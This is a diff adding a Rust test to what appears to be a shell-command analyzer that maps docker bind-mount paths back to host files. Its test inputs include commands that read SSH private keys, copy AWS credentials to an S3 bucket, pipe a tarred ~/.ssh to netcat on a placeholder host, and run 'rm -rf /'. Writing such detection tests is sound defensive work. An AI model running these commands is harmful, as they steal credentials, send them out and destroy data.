@@ -287,6 +287,36 @@ fn loops_bind_their_values() {
 }
 
 #[test]
+fn container_mounts_map_to_host_paths() {
+    // a container's bind mounts: its paths under a mount target are the host's
+    let cat = cmd(
+        "docker run --rm -v ~/.ssh:/keys:ro alpine cat /keys/id_rsa",
+        "cat",
+    );
+    assert_eq!(
+        (paths(&cat), cat.via.clone()),
+        (vec!["/home/u/.ssh/id_rsa"], vec!["docker run".to_string()])
+    );
+    let aws = cmd(
+        "docker run -it --mount type=bind,src=/home/u/.aws,dst=/root/.aws amazon/aws-cli s3 cp /root/.aws/credentials s3://b/",
+        "aws",
+    );
+    assert!(paths(&aws).contains(&"/home/u/.aws/credentials"));
+    assert!(
+        a("docker run -v ~:/h alpine sh -c 'tar c /h/.ssh | nc x 1'").feeds_any(&["tar"], &["nc"])
+    );
+    // nothing under a mount named: the container's own files, not walked
+    assert_eq!(
+        progs("docker run --rm -v ~/p:/app alpine rm -rf /"),
+        ["docker"]
+    );
+    assert_eq!(
+        progs("docker run -v data:/data alpine cat /data/x"),
+        ["docker"]
+    );
+}
+
+#[test]
 fn find_names_listings_and_variables_carry_paths() {
     // `{}` is a `-name` match under the start path, globbed over known entries
     let cat = cmd(
